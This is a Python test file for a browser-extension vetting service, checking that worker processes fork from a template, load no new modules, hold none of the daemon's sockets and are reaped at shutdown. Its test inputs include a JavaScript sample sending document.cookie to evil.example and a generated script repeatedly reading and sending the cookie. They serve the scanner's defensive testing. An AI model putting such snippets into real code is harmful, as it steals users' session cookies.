"""Service workers fork from one preloaded template: they load nothing
while they vet, their parent is the template, they hold none of the
daemon's sockets or state files, and the daemon reaps the template and
every worker before it exits."""

import asyncio
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from repro.batch import VetTask, template_pid
from repro.service.supervisor import SupervisedPool
from repro.service.client import ServiceClient
from repro.service.loadgen import DaemonHandle
from tests.service.stdio_daemon import StdioDaemon, source_env

pytestmark = [
    pytest.mark.service,
    pytest.mark.skipif(
        not Path("/proc/self/status").exists(), reason="needs /proc/<pid>"
    ),
]

#: Evaluated in a worker: the ``repro`` modules it has loaded.
LOADED = "sorted(m for m in __import__('sys').modules if m.startswith('repro'))"


def _parent(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(status.split("PPid:", 1)[1].split()[0])


#: A single file whose computed key sends the prefilter to the
#: pre-analysis.
COMPUTED_KEY = """
var key = "coo" + "kie";
var xhr = new XMLHttpRequest();
xhr.open("GET", "https://evil.example/?c=" + document[key], true);
xhr.send(null);
"""


def _tasks() -> list[VetTask]:
    """A single file, a bundle, an update with a baseline and an addon
    the prefilter settles."""
    from repro.corpusgen.generator import generate_corpus, generate_updates
    from repro.webext.loader import is_bundle_text

    bundle = next(
        a for a in generate_corpus(20, 0) if is_bundle_text(a.source)
    )
    pair = generate_updates(1, 0)[0]
    return [
        VetTask(name="computed", source=COMPUTED_KEY),
        VetTask(name=bundle.name, source=bundle.source),
        VetTask(name=pair.name, source=pair.new_source,
                baseline_source=pair.old_source,
                baseline_signature_text=pair.old_expected),
        VetTask(name="benign", source="var total = 1 + 2;"),
    ]


def test_a_worker_loads_nothing_after_boot():
    pool = SupervisedPool(workers=1)
    try:
        at_boot = pool.submit(eval, LOADED).result(timeout=60)
        assert pool.submit(os.getppid).result(timeout=60) == template_pid()

        async def run_all():
            return [await pool.run(task) for task in _tasks()]

        outcomes = asyncio.run(run_all())
        assert all(outcome.ok for outcome in outcomes), outcomes
        assert outcomes[2].diff_verdict is not None
        assert outcomes[3].prefiltered
        after = pool.submit(eval, LOADED).result(timeout=60)
    finally:
        pool.shutdown(wait=True)
    assert sorted(set(after) - set(at_boot)) == []


def test_rebuilt_workers_fork_from_the_template(tmp_path):
    with StdioDaemon(tmp_path, workers=2) as daemon:
        first = daemon.call("submit", task={"name": "a", "source": "var a;"})
        assert daemon.wait([first["id"]])[0]["state"] == "done"
        pool = daemon.call("stats")["pool"]
        template, killed = pool["template_pid"], pool["worker_pids"]
        assert _parent(template) == daemon.process.pid
        assert [_parent(pid) for pid in killed] == [template] * 2
        os.kill(killed[0], signal.SIGKILL)
        # A job submitted before the pool notices the death may still
        # finish on the survivor; the next one then meets the rebuild.
        for n in range(10):
            job = daemon.call(
                "submit", task={"name": f"b{n}", "source": f"var b = {n};"}
            )
            assert daemon.wait([job["id"]])[0]["state"] == "done"
            pool = daemon.call("stats")["pool"]
            if pool["rebuilds"]:
                break
        assert pool["rebuilds"] >= 1
        rebuilt = pool["worker_pids"]
        assert rebuilt and not set(rebuilt) & set(killed)
        assert pool["template_pid"] == template
        assert [_parent(pid) for pid in rebuilt] == [template] * len(rebuilt)


def _fd_targets(pid: int) -> set[str]:
    """What a process's fds point at, but for stdio, which every service
    process shares by design."""
    targets = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            if int(fd.name) > 2:
                targets.add(os.readlink(fd))
        except OSError:
            continue  # closed while we looked
    return targets


def test_template_and_workers_hold_no_socket_or_file_of_the_daemon(tmp_path):
    handle = DaemonHandle(tmp_path, workers=2, max_attempts=3, fsync=False)
    handle.start()
    try:
        client = ServiceClient(handle.port)
        job = client.submit(VetTask(name="a", source="var a = 1;"))
        assert client.wait(job["id"], timeout=60.0)["state"] == "done"
        pool = client.stats()["pool"]
        daemon = {
            target for target in _fd_targets(handle.process.pid)
            if target.startswith("socket:")
            or target.startswith(str(tmp_path.resolve()))
        }
        assert any(target.startswith("socket:") for target in daemon)
        for pid in [pool["template_pid"], *pool["worker_pids"]]:
            assert _fd_targets(pid) & daemon == set(), pid
    finally:
        handle.stop()


#: Run in a fresh interpreter, so its reaped children are the daemon's
#: tree alone: a job big enough that its worker outgrows the daemon, a
#: shutdown, then the child accounting and which pids still answer.
SHUTDOWN = """
import json, os, resource, sys
from pathlib import Path
from tests.service.stdio_daemon import StdioDaemon

big = "\\n".join(f"var v{n} = document.cookie; send(v{n});" for n in range(500))
with StdioDaemon(Path(sys.argv[1]), workers=2) as daemon:
    job = daemon.call("submit", task={"name": "big", "source": big})
    assert daemon.wait([job["id"]])[0]["state"] == "done"
    stats = daemon.call("stats")
pids = [stats["pool"]["template_pid"], *stats["pool"]["worker_pids"]]
alive = []
for pid in pids:
    try:
        os.kill(pid, 0)  # a zombie still accepts signal 0
    except ProcessLookupError:
        continue
    alive.append(pid)
print(json.dumps({
    "memory": stats["memory"],
    "children_maxrss_mb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024,
    "exit": daemon.process.returncode,
    "alive": alive,
}))
"""


def test_shutdown_reaps_the_template_and_its_workers(tmp_path):
    env = source_env()
    env["PYTHONPATH"] = os.pathsep.join(
        [str(Path(__file__).resolve().parents[2]), env["PYTHONPATH"]]
    )
    result = subprocess.run(
        [sys.executable, "-c", SHUTDOWN, str(tmp_path)],
        capture_output=True, text=True, env=env, check=True, timeout=120,
    )
    report = json.loads(result.stdout)
    assert report["exit"] == 0
    assert report["alive"] == []
    memory = report["memory"]
    worker = max(memory["worker_hwm_mb"].values())
    assert worker > memory["daemon_maxrss_mb"] + 2, "the job did not outgrow it"
    # The workers' high-water marks reach the daemon's own reaper only
    # through the template, which reaped them and which the daemon
    # reaped. The kernel's per-CPU RSS counters make VmHWM and the
    # accounted peak differ by up to a few hundred KB.
    assert report["children_maxrss_mb"] >= worker - 0.5
    assert report["children_maxrss_mb"] >= memory["forkserver_hwm_mb"] - 0.5
